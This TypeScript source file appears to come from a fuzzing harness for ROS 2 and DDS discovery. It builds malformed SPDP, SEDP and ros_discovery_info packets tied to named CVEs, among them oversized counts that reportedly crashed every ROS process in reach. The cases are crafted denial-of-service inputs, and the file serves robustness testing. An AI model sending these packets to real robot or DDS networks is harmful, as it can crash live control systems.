import type { HostilePeer } from '../hostile/hostile-peer.js';
import { announcementOf, participantParameters } from '../hostile/spdp.js';
import {
  CDR_LE,
  data,
  header,
  heartbeat,
  infoDst,
  join,
  locator,
  parameter,
  PL_CDR_LE,
  SENTINEL,
  string,
  u16,
  u32,
} from '../hostile/wire.js';
import { corrupt, EXTREMES, type AttackCase, type CaseFamily } from './case.js';

const PUBLICATIONS_WRITER = 0x000003c2;
const PUBLICATIONS_READER = 0x000003c7;

/** Participants that say strange things of themselves (CVE-2023-39946, CVE-2025-63829, CVE-2026-49862). */
export const participants: CaseFamily = {
  family: 'SPDP contents',
  cases(_peer, random, count) {
    const cases: AttackCase[] = [];
    const here = [locator('127.0.0.1', 9)];
    const tell = (name: string, change: (list: Uint8Array[]) => Uint8Array): void => {
      const prefix = random.bytes(12);
      const list = participantParameters({ prefix, locators: here, leaseSeconds: 2 });
      cases.push({ name, datagrams: [announcementOf(prefix, change(list))], target: 'metatraffic' });
    };
    const plus =
      (...more: Uint8Array[]) =>
      (list: Uint8Array[]) =>
        join(PL_CDR_LE, ...list, ...more, SENTINEL);
    for (const n of EXTREMES) {
      tell(`${n} properties`, plus(parameter(0x59, join(u32(n), string('a'), string('b')))));
      tell(`a name of ${n}`, plus(parameter(0x62, string('name', n))));
      tell(`user data of ${n}`, plus(parameter(0x2c, join(u32(n), new Uint8Array(8)))));
      tell(`a lease of ${n} s and ${n} fractions`, plus(parameter(0x02, join(u32(n), u32(n)))));
      tell(`a locator of kind ${n}`, plus(parameter(0x32, locator('255.255.255.255', n, n))));
    }
    for (const address of ['0.0.0.0', '255.255.255.255', '239.255.0.1', '127.0.0.1', '169.254.1.1'])
      tell(
        `reached at ${address}`,
        plus(parameter(0x32, locator(address, 7_400)), parameter(0x31, locator(address, 7_400))),
      );
    tell(
      '500 locators',
      plus(...Array.from({ length: 500 }, (_, i) => parameter(0x32, locator(`10.9.${i >> 8}.${i & 255}`, 7_400)))),
    );
    tell('no sentinel', (list) => join(PL_CDR_LE, ...list));
    tell(
      'a prototype',
      plus(parameter(0x59, join(u32(2), string('__proto__'), string('x'), string('constructor'), string('y')))),
    );
    while (cases.length < count)
      tell('broken at random', (list) => corrupt(random, join(PL_CDR_LE, ...list, SENTINEL), 4));
    return cases.slice(0, count);
  },
};

/** Endpoints that say strange things of themselves (CVE-2026-49861, CVE-2026-53589), in order and so delivered. */
export const endpoints: CaseFamily = {
  family: 'SEDP contents',
  cases(peer, random, count) {
    const cases: AttackCase[] = [];
    // Where the participant's own announcements ended.
    let last = peer.writers.length;
    const goal = peer.writerTo('send_goal').victim;
    const tell = (
      name: string,
      more: readonly Uint8Array[],
      change = (octets: Uint8Array): Uint8Array => octets,
    ): void => {
      last += 1;
      const guid = join(peer.prefix, Uint8Array.of(0x40, last >>> 8, last, 0x03));
      const payload = join(
        PL_CDR_LE,
        change(
          join(
            parameter(0x5a, guid),
            parameter(0x05, string(goal.topicName)),
            parameter(0x07, string(goal.typeName)),
            parameter(0x1a, join(u32(2), u32(0), u32(0))),
            ...more,
            SENTINEL,
          ),
        ),
      );
      const to = { readerId: PUBLICATIONS_READER, writerId: PUBLICATIONS_WRITER };
      const datagram = join(
        header(peer.prefix),
        infoDst(peer.victimPrefix),
        data({ ...to, writerSn: last, payload }),
        // What was before is gone: so this one is delivered, whatever has become of the others.
        heartbeat(to.readerId, to.writerId, last, last, 10_000 + last),
      );
      cases.push({ name, datagrams: [datagram], target: 'metatraffic' });
    };
    for (const n of EXTREMES) {
      tell(`${n} data representations`, [parameter(0x73, join(u32(n), u16(0), u16(0)))]);
      tell(`${n} partitions`, [parameter(0x29, join(u32(n), string('p')))]);
      tell(`a topic name of ${n}`, [parameter(0x05, string('name', n))]);
      tell(`user data of ${n}`, [parameter(0x2c, join(u32(n), new Uint8Array(8)))]);
      tell(`a durability of ${n}`, [parameter(0x1d, u32(n))]);
      tell(`type information of ${n}`, [parameter(0x75, join(u32(n), u32(n), u32(n)))]);
      tell(`a deadline of ${n} s and fractions`, [parameter(0x23, join(u32(n), u32(n)))]);
      tell(`a filter of ${n}`, [parameter(0x35, join(string('f', n), string('t'), string('DDSSQL'), string('x = 1')))]);
    }
    tell('a pattern that backtracks', [parameter(0x29, join(u32(1), string('*a'.repeat(60))))]);
    tell('a type hash that is none', [
      parameter(0x2c, join(u32(40), new TextEncoder().encode(`typehash=RIHS01_${'z'.repeat(24)}`))),
    ]);
    tell('60 kB of nothing', [parameter(0x8001, new Uint8Array(60_000))]);
    tell('reached at a victim', [parameter(0x2f, locator('10.1.2.3', 7_400))]);
    while (cases.length < count) tell('broken at random', [], (octets) => corrupt(random, octets, 24));
    return cases.slice(0, count);
  },
};

/** ros_discovery_info (rmw_fastrtps#828: a sequence of 2^32 − 1 nodes ended every ROS process in reach). */
export const graph: CaseFamily = {
  family: 'ros_discovery_info',
  cases(peer: HostilePeer, random, count) {
    const gid = join(peer.prefix, Uint8Array.of(0, 0, 1, 0xc1), new Uint8Array(0));
    const node = (name: string): Uint8Array => join(string('/'), string(name), u32(0), u32(0));
    const cases: AttackCase[] = [];
    const tell = (name: string, body: Uint8Array): void => {
      cases.push({ name, samples: [{ to: 'ros_discovery_info', payload: join(CDR_LE, gid, body) }] });
    };
    for (const n of EXTREMES) {
      tell(`${n} nodes`, join(u32(n), node('n')));
      tell(`a namespace of ${n}`, join(u32(1), string('/', n), string('n'), u32(0), u32(0)));
      tell(`${n} readers`, join(u32(1), string('/'), string('n'), u32(n), new Uint8Array(24)));
    }
    tell('1 000 nodes', join(u32(1_000), ...Array.from({ length: 1_000 }, (_, i) => node(`node_${i}`))));
    tell('a prototype', join(u32(2), node('__proto__'), node('constructor')));
    const sound = join(CDR_LE, gid, u32(2), node('a'), node('b'));
    while (cases.length < count)
      cases.push({
        name: 'broken at random',
        samples: [{ to: 'ros_discovery_info', payload: corrupt(random, sound) }],
      });
    return cases.slice(0, count);
  },
};
